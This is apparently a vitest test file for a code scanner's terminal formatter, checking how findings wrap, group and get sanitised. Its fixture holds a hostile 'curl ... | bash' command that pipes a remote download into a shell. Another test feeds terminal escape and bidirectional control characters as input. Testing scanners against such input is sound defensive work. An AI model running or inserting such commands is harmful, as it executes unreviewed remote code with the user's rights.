import type { ScanOutput } from '@metier/operations'
import { expect, it } from 'vitest'
import { chooseStyle } from '../terminal/choose-style.ts'
import { textWidth } from '../terminal/text-width.ts'
import { scanFindingLines } from './scan-finding-lines.ts'

type Finding = ScanOutput['results'][number]['findings'][number]

const finding = (changes: Partial<Finding> = {}): Finding => ({
  rule: 'download-and-run',
  severity: 'critical',
  confidence: 'high',
  message: 'Runs what another machine sends, which nobody can have read before it runs, whoever they are.',
  path: 'scripts/install.sh',
  line: 12,
  column: 1,
  evidence: `curl http://203.0.113.7/${'x'.repeat(300)} | bash`,
  why: 'What runs is whatever the other side sends that day, with all rights of the user.',
  next: 'Take the program from a package manager or from its own publisher, at a fixed version.',
  ...changes,
})

function render(findings: readonly Finding[], width = 80): readonly string[] {
  const style = chooseStyle({ isTerminal: false, environment: {}, color: false })
  return scanFindingLines(findings, { style, width, verbose: false, isTerminal: true, cwd: '/p', home: '/h' })
}

it.each([50, 80, 120])('fits a terminal of %i columns, with everything that matters', (width) => {
  const lines = render([finding()], width)
  expect(lines.filter((line) => textWidth(line) > width)).toEqual([])
  const words = lines.join(' ').replaceAll(/\s+/g, ' ')
  for (const part of [
    'scripts/install.sh:12:1',
    'download-and-run',
    'whoever they are.',
    'that day',
    'fixed version.',
  ]) {
    expect(words).toContain(part)
  }
})

it('gives reason and advice once for each rule, and counts what is more of the same', () => {
  const text = render(Array.from({ length: 8 }, (_, line) => finding({ line }))).join('\n')
  expect(text.match(/fixed version/g)).toHaveLength(1)
  expect(text).toContain('and 3 more of download-and-run')
})

it('says once, in a terminal of any width, where it began what a finding joins', () => {
  const joins = { from: [], to: [], says: 'fetched in scripts/fetch.py:3, run in scripts/main.py:12' }
  for (const width of [50, 120]) {
    const words = render([finding({ joins })], width)
      .join(' ')
      .replaceAll(/\s+/g, ' ')
    expect(words.split(joins.says)).toHaveLength(2)
  }
  expect(render([finding()]).join('\n')).not.toContain('fetched in')
})

it('shows nothing of a file as a command to the terminal', () => {
  const hostile = '\u001b[2J\u0007\u202e'
  const text = render([
    finding({
      path: hostile,
      evidence: hostile,
      message: hostile,
      rule: hostile,
      joins: { from: [], to: [], says: hostile },
    }),
  ]).join('\n')
  for (const character of hostile.replace('[2J', '')) expect(text).not.toContain(character)
})
